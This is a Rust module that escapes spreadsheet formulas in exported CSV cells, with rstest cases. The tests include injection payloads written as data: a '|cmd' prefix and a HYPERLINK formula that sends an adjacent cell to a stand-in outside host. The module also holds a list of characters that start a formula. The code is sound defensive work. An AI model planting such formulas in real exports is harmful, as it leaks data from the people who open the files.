//! CSV for people who open it in a spreadsheet: no text of ours may become a formula there.
//!
//! The one place that writes CSV. A formula in a remark could send what stands beside it to another server as soon as
//! somebody opens the file.

use std::{borrow::Cow, io};

/// What a spreadsheet takes for the start of a formula; the wide forms are read as the narrow ones where the system's
/// language is Japanese or Chinese. A tab or a line break first makes some programs look at what follows it.
const STARTS: [char; 13] = ['=', '+', '-', '@', '|', '%', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// The text as it may stand in a cell: an apostrophe goes before what could be read as a formula, which a spreadsheet
/// takes to mean that the cell is text.
pub fn cell(text: &str) -> Cow<'_, str> {
    let is_blank = |mark: char| {
        mark.is_whitespace() || mark.is_control() || matches!(mark, '\u{200b}'..='\u{200f}' | '\u{2060}' | '\u{feff}')
    };
    // Importers that trim would uncover what stands behind blanks.
    let uncovered = text.trim_start_matches(is_blank);
    if text.starts_with(STARTS) || uncovered.starts_with(STARTS) {
        return Cow::Owned(format!("'{text}"));
    }
    Cow::Borrowed(text)
}

/// A table under way. Every cell goes through `cell`, and is quoted, so that no text ends its cell or row either.
pub struct Sheet<W: io::Write> {
    writer: csv::Writer<W>,
    columns: usize,
}

impl<W: io::Write> Sheet<W> {
    /// Begins with a row of column names. Rows end as RFC 4180 says.
    pub fn begin(out: W, columns: &[&str]) -> io::Result<Self> {
        let writer = csv::WriterBuilder::new()
            .quote_style(csv::QuoteStyle::Always)
            .terminator(csv::Terminator::CRLF)
            .from_writer(out);
        let mut sheet = Self { writer, columns: columns.len() };
        sheet.row(columns)?;
        Ok(sheet)
    }

    /// One row; as many cells as there are columns, or it is an error.
    pub fn row<T: AsRef<str>>(&mut self, cells: &[T]) -> io::Result<()> {
        // Asked first: the writer notices only after it has written what there is of the row.
        if cells.len() != self.columns {
            return Err(io::Error::other(format!("{} cells in a row of {}", cells.len(), self.columns)));
        }
        let cells = cells.iter().map(|text| cell(text.as_ref()));
        self.writer.write_record(cells.map(|text| text.into_owned().into_bytes())).map_err(io::Error::from)
    }

    /// Everything that was written, in what it was written to.
    pub fn finish(self) -> io::Result<W> {
        self.writer.into_inner().map_err(csv::IntoInnerError::into_error)
    }
}

#[cfg(test)]
mod tests {
    use rstest::rstest;

    use super::{Sheet, cell};

    #[rstest]
    #[case("=1+1")]
    #[case("+44 1632 960001")]
    #[case("-2")]
    #[case("@SUM(A1)")]
    #[case("|cmd")]
    #[case("%0A=1")]
    #[case("\t=1")]
    #[case("\r=1")]
    #[case("\n=1")]
    #[case("  =1")]
    #[case("\u{a0}=1")]
    #[case("\u{feff}=1")]
    #[case("\u{200b}@x")]
    #[case("\u{0}=1")]
    #[case("＝1")]
    #[case("＋1")]
    #[case("－1")]
    #[case("＠x")]
    #[case("=HYPERLINK(\"http://elsewhere.example/?\"&A1)")]
    fn fault_33_a_formula_becomes_text(#[case] text: &str) {
        assert_eq!(cell(text), format!("'{text}"));
    }

    #[rstest]
    #[case("")]
    #[case("   ")]
    #[case("two = three")]
    #[case("O'Reed")]
    #[case("12 Tern Way")]
    #[case("'=1")]
    fn what_is_no_formula_stays_as_it_is(#[case] text: &str) {
        assert_eq!(cell(text), text);
    }

    #[test]
    fn fault_33_a_sheet_keeps_its_cells_apart_and_its_formulas_dead() {
        let mut sheet = Sheet::begin(Vec::new(), &["who", "what"]).unwrap();
        sheet.row(&["linnet", "\",=1+1\r\n=2+2,\""]).unwrap();
        sheet.row(&["=A1", "plain"]).unwrap();
        assert!(sheet.row(&["one cell"]).is_err(), "a row of another length");
        let written = sheet.finish().unwrap();
        let rows: Vec<csv::StringRecord> = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&written[..])
            .records()
            .map(Result::unwrap)
            .collect();
        let rows: Vec<Vec<&str>> = rows.iter().map(|row| row.iter().collect()).collect();
        assert_eq!(rows, [["who", "what"], ["linnet", "\",=1+1\r\n=2+2,\""], ["'=A1", "plain"]]);
    }
}
